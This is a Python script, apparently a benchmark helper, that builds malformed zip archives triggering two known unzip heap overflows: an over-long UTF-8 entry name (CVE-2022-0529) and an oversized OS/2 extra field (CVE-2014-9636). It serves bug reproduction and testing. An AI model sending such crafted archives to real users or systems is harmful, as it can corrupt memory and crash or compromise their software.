# Writes a crafted one-entry zip archive (a stored file "hi\n") for benches/real-bugs.sh.
#   python3 mkzip.py OUT utf8-name N : the entry's name is N 6-byte UTF-8 sequences of U+7FFFFFFF,
#                                      general purpose bit 11 set (name is UTF-8). In a non-UTF-8
#                                      locale unzip escapes each as "#L7fffffff" (10 bytes) into a
#                                      buffer sized 8 per character: CVE-2022-0529.
#   python3 mkzip.py OUT os2-ef N    : an OS/2 extra field (0x0009) that claims 8 bytes of
#                                      uncompressed data but holds N "stored" bytes; `unzip -t`
#                                      copies all N into an 8-byte block: CVE-2014-9636.
import struct
import sys
import zlib

out, kind, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
data = b"hi\n"
crc = zlib.crc32(data)
if kind == "utf8-name":
    name, flags = b"\xfd\xbf\xbf\xbf\xbf\xbf" * n, 0x800
    extra = struct.pack("<HH", 0xCAFE, 0)
elif kind == "os2-ef":
    name, flags = b"a.txt", 0
    body = b"B" * n
    blk = struct.pack("<IHI", 8, 0, zlib.crc32(body)) + body  # ucsize, method STORED, crc
    extra = struct.pack("<HH", 0x0009, len(blk)) + blk
else:
    sys.exit("unknown kind " + kind)
local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 10, flags, 0, 0, 0, crc, len(data), len(data),
                    len(name), len(extra)) + name + extra + data
central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x031e, 10, flags, 0, 0, 0, crc,
                      len(data), len(data), len(name), len(extra), 0, 0, 0, 0o100644 << 16,
                      0) + name + extra
end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central), len(local), 0)
with open(out, "wb") as f:
    f.write(local + central + end)
